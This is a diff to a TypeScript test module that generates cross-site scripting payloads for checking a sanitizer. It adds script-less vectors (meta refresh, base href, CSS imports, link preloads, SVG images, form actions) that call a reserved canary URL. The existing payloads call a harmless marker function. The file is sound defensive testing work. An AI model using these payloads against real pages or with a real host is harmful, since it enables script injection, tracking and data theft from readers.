@@ -1,8 +1,9 @@
 /**
  * Texts that try to run a script, made from the known classes: tags × events × ways to write them, schemes × ways to
- * hide them, Markdown that breaks out of an attribute, mutation, foreign content and names that shadow the document's.
+ * hide them, Markdown that breaks out of an attribute, mutation, foreign content, names that shadow the document's, and elements that fetch
+ * or lead away without a script.
  *
- * Each calls `FIRE`; in a page that defines it, a payload that runs is seen.
+ * Each calls `FIRE`, so in a page that defines it a payload that runs is seen, or asks for `CANARY`, which is no picture.
  */
 export function createPayloads(): readonly string[] {
   return [
@@ -13,12 +14,16 @@ export function createPayloads(): readonly string[] {
       ...mutations(),
       ...foreign(),
       ...clobbering(),
+      ...requests(),
     ]),
   ];
 }
 
 /** What a payload calls. */
 const FIRE = 'wendaFired()';
+
+/** What a payload asks for where it needs no script: whoever hears of it knows who reads what. */
+export const CANARY = 'https://canary.invalid/';
 
 const TAGS =
   'a abbr article audio b base body br button canvas center details dialog div embed font form frameset h1 iframe img input isindex keygen label link marquee math menu meta object option p picture pre q script select source span style summary svg table td template textarea track video x-y xmp'.split(
@@ -257,4 +262,34 @@ function clobbering(): string[] {
     `# ${name} {#${name} onclick=${FIRE}}`,
     `[${name}]: javascript:${FIRE}\n\n[${name}]`,
   ]);
+}
+
+function requests(): string[] {
+  const rels = 'stylesheet preload prefetch modulepreload prerender manifest import icon'.split(
+    ' ',
+  );
+  const sources = 'iframe embed video audio script frame source track input'.split(' ');
+  return [
+    ...rels.map((rel) => `<link rel=${rel} href="${CANARY}" as=script>`),
+    ...sources.map((tag) => `<${tag} src="${CANARY}" type=image autoplay></${tag}>`),
+    `<meta http-equiv=refresh content="0;url=${CANARY}">`,
+    `<meta http-equiv="Set-Cookie" content="a=b">`,
+    `<base href="${CANARY}">`,
+    `<object data="${CANARY}"></object>`,
+    `<style>@import "${CANARY}";</style>`,
+    `<style>*{background:url(${CANARY})}</style>`,
+    `<p style="background:url(${CANARY})">x</p>`,
+    `<body background="${CANARY}">`,
+    `<table background="${CANARY}"><tr><td>x</table>`,
+    `<form action="${CANARY}"><input name=a autofocus><button>x</button></form>`,
+    `<a href="/" ping="${CANARY}">x</a>`,
+    `<svg><image href="${CANARY}"/></svg>`,
+    `<svg><use href="${CANARY}#a"/></svg>`,
+    `<svg><style>@import "${CANARY}";</style></svg>`,
+    `<svg><filter id=a><feImage href="${CANARY}"/></filter><rect filter="url(#a)" width=9 height=9/></svg>`,
+    `<math><mglyph src="${CANARY}"></mglyph></math>`,
+    `<img src="x" srcset="${CANARY} 2x, ${CANARY} 1x">`,
+    `<picture><source srcset="${CANARY}"><img src=x></picture>`,
+    `<iframe srcdoc="<img src='${CANARY}'>"></iframe>`,
+  ];
 }
